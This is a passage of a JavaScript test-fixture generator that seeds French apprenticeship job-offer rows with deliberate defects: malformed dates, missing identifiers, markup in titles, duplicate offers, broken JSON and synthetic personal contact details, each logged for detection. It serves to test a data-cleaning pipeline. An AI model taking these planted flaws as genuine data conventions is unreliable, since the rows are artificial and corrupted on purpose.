    row.offer.rome_codes = row.offer.rome_codes.map((code) => code.toLowerCase());
    return row.offer.rome_codes.join(" ");
  });
  p.plant("rome_missing", (row) => {
    row.offer.rome_codes = [];
    return "no rome_codes";
  });
  p.plant("h_f_twice", (row) => {
    row.offer.title = `${row.offer.title.replace(/ \(H\/F\)$/, "")} (H/F) H/F`;
    return row.offer.title;
  });
  dirtyTexts(p, matcha ? 0 : 3, 4, text, setText);

  if (matcha) {
    const [alone, twice] = [newCompany(random), newCompany(random)];
    twice.siret = companySiret;
    for (const company of [alone, twice, newCompany(random), newCompany(random), newCompany(random)]) {
      const row = pseudoOffer(random, { company });
      p.note("predicted_company", row.identifier.id, `pseudo-offer recruteurs_lba, SIRET ${company.siret}`);
      if (company === twice)
        p.note("duplicate_siret", row.identifier.id, `SIRET ${company.siret} stands in entreprises.ndjson.gz as well`);
      p.insert(row);
    }
    p.plant("delegated", (row) => {
      row.is_delegated = true;
      row.workplace.brand = null;
      return "managed by a training centre";
    });
    p.plant("date_epoch", (row) => {
      row.contract.start = "1970-01-01T00:00:00.000Z";
      return "contract.start 1970-01-01";
    });
    p.plant("personal_data", (row) => {
      const { name, mail } = people.maiwenn;
      row.offer.description = `${row.offer.description}\n\nVotre contact : ${name}, ${mail}, 02 61 91 70 15.`;
      row.apply.phone = "02 61 91 70 15";
      row.apply.email = mail;
      p.personal("email", "text", row.identifier.id, mail);
      p.personal("phone", "text", row.identifier.id, "02 61 91 70 15");
      p.personal("name", "text", row.identifier.id, name);
      return "name, e-mail and phone in the description and in apply";
    });
    p.plant("personal_data", (row) => {
      row.apply.phone = "0353012266";
      p.personal("phone", "contact", row.identifier.id, "0353012266");
      return "phone in apply";
    });
    return rows;
  }

  p.plant("title_markup", (row) => {
    row.offer.title = `<a href="https://emploi.example.com/${row.identifier.id}" target="_blank">${row.offer.title}</a>`;
    return "the title is a link";
  });
  p.plant("siren_only", (row) => {
    row.workplace.siret = row.workplace.siret.slice(0, 9);
    return row.workplace.siret;
  });
  p.plant("company_missing", (row) => {
    Object.assign(row.workplace, { brand: null, legal_name: null, name: "" });
    return "no company name";
  });
  p.plant("foreign_postal_code", (row) => {
    row.identifier.partner_label = "Kelio";
    row.workplace.location.address = row.workplace.location.address.replace(/ \d{5} /, " 99200 ");
    return row.workplace.location.address;
  });
  p.plant("date_spelling", (row) => {
    row.offer.publication.creation = "15/10/2026";
    return row.offer.publication.creation;
  });
  p.plant("date_spelling", (row) => {
    row.offer.publication.expiration = "2034-08-31Z";
    return row.offer.publication.expiration;
  });
  p.plant("boolean_text", (row) => {
    row.is_delegated = "Non";
    return 'is_delegated "Non"';
  });
  p.plant("list_as_text", (row) => {
    row.contract.type = "Apprentissage";
    return "contract.type is a string";
  });
  p.plant("missing_id", (row) => {
    const id = row.identifier.id;
    row.identifier.id = null;
    row.identifier.partner_job_id = "";
    return `identifier.id was ${id}`;
  });
  p.plant("title_missing", (row) => {
    row.offer.title = " ";
    return "blank title";
  });
  for (let i = 0; i < 2; i += 1) {
    const copy = clone(p.take());
    copy.identifier = { id: random.hex(24), partner_label: "Meteojob", partner_job_id: random.digits(8) };
    p.note("repeated_offer", copy.identifier.id, "the advert of another partner under its own id");
    p.insert(copy);
  }
  p.plant("personal_data", (row) => {
    const { name, mail } = people.aurelien;
    row.workplace.description = `Entreprise dirigée par ${name}. Tél. 00 33 6 39 98 55 06 - mailto:${mail}?subject=CV`;
    p.personal("phone", "text", row.identifier.id, "00 33 6 39 98 55 06");
    p.personal("email", "text", row.identifier.id, mail);
    p.personal("name", "text", row.identifier.id, name);
    return "name, e-mail and phone in workplace.description";
  });
  p.plant("personal_data", (row) => {
    row.offer.description = `${row.offer.description}\nTél : 0262 00 41 17 (La Réunion)`;
    row.apply.phone = "0596 00 41 18";
    p.personal("phone", "text", row.identifier.id, "0262 00 41 17");
    p.personal("phone", "contact", row.identifier.id, "0596 00 41 18");
    return "overseas phones";
  });
  const id = random.hex(24);
  const broken = `{"identifier":{"id":"${id}","partner_label":"Kelio"},"offer":{"title":"Apprenti maçon","rome_codes":['F1703']},"workplace":undefined}`;
  p.note("broken_json", id, broken);
  p.insert(new BrokenRow(broken));
  return rows;
}
